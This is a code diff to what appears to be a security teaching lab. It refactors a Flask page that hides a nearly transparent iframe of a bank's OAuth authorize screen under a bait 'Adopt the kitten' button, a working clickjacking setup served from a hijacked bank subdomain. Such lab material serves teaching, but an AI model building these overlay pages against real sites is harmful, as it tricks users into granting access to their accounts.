@@ -9,23 +9,17 @@ from labs.stage import Stage, Stuck
 from labs.steps import step
 
 # The frame lies so that “Allow” is over the button: the attacker has measured Bank ID's page in his own browser.
-PAGE = """<!doctype html><html lang="en"><title>Kittens</title>
-<style>
-  body { max-width: 30rem; margin: 2rem auto; padding: 0 1rem; font: 1rem/1.5 system-ui, sans-serif; }
-  .kitten { display: block; width: 12rem; color: #b8651b; }
+PAGE = """{% extends "pages/kitten.html" %}
+{% block head %}<style>
   .trap { position: relative; width: 13rem; height: 2.5rem; overflow: hidden; }
-  .trap button { position: absolute; inset: 0; font: inherit; }
+  .trap button { position: absolute; inset: 0; width: 100%; min-height: 0; }
   iframe { position: absolute; left: -119px; top: -564px; width: 700px; height: 1000px; border: 0; opacity: .001; }
-  body:has(#show:checked) iframe { opacity: .75; }
-</style>
-<h1>This kitten has no home</h1>
-<svg class="kitten" viewBox="0 0 100 80" fill="currentColor" role="img" aria-label="A kitten">
-  <path d="M22 8l18 16h20L78 8v34a28 28 0 0 1-56 0z"/><circle cx="40" cy="42" r="4" fill="#fff"/>
-  <circle cx="60" cy="42" r="4" fill="#fff"/><path d="M46 54h8l-4 5z" fill="#fff"/></svg>
-<p class="trap"><button type="button">Adopt the kitten</button>
+  body:has(#show:checked) iframe { opacity: .9; }
+</style>{% endblock %}
+{% block trap %}<p class="trap"><button type="button">Adopt the kitten</button>
 <iframe src="{{ framed }}" title="Nothing"></iframe></p>
-<p><label><input type="checkbox" id="show"> Show what lies over the button</label></p></html>"""
-kittens = Flask(__name__)
+<p><label><input type="checkbox" id="show"> Show what lies over the button</label></p>{% endblock %}"""
+kittens = Flask(__name__, template_folder="../templates", static_folder="../static")
 HOSTS = {"shop.auth": kittens}  # a subdomain of the bank's that somebody gave up, and somebody else took
 
 
@@ -35,7 +29,7 @@ def page() -> Response:
     here = request.environ["labs.world"].here
     framed = f"{here.auth}/authorize?{request.query_string.decode()}"
     answer = Response(render_template_string(PAGE, framed=framed))
-    sources = f"frame-src {here.auth} {here.attacker}; style-src 'unsafe-inline'"
+    sources = f"frame-src {here.auth} {here.attacker}; style-src 'self' 'unsafe-inline'"
     answer.headers["Content-Security-Policy"] = f"default-src 'none'; {sources}"
     return answer
 
